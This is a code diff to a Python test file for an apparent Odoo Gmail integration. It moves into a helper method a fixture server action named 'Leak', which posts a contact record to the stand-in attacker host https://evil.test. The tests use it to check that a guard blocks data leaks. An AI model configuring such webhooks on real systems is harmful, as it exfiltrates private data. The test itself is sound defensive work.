@@ -262,6 +262,15 @@ class TestGuard(GmailCase):
         self.env.invalidate_all()
         return record
 
+    def webhook(self):
+        """Return the values of an action that posts a contact to an address."""
+        return {
+            "name": "Leak",
+            "model_id": self.model("res.partner").id,
+            "state": "webhook",
+            "webhook_url": "https://evil.test",
+        }
+
     def test_an_action_that_is_there_does_nothing(self):
         box = self.connect(self.anna, ANNA)
         self.google.add_message(ANNA, mail(body=SECRET))
@@ -270,14 +279,7 @@ class TestGuard(GmailCase):
         self.assertTrue(message)
         action = self.planted(
             "gmail.message",
-            self.env["ir.actions.server"].create(
-                {
-                    "name": "Leak",
-                    "model_id": self.model("res.partner").id,
-                    "state": "webhook",
-                    "webhook_url": "https://evil.test",
-                }
-            ),
+            self.env["ir.actions.server"].create(self.webhook()),
         )
         context = {"active_model": "gmail.message", "active_id": message.id}
         with (
@@ -298,16 +300,7 @@ class TestGuard(GmailCase):
                 "name": "Leak",
                 "model_id": self.model("res.partner").id,
                 "trigger": "on_create",
-                "action_server_ids": [
-                    Command.create(
-                        {
-                            "name": "Leak",
-                            "model_id": self.model("res.partner").id,
-                            "state": "webhook",
-                            "webhook_url": "https://evil.test",
-                        }
-                    )
-                ],
+                "action_server_ids": [Command.create(self.webhook())],
             }
         )
         self.planted("gmail.message", rule.action_server_ids)
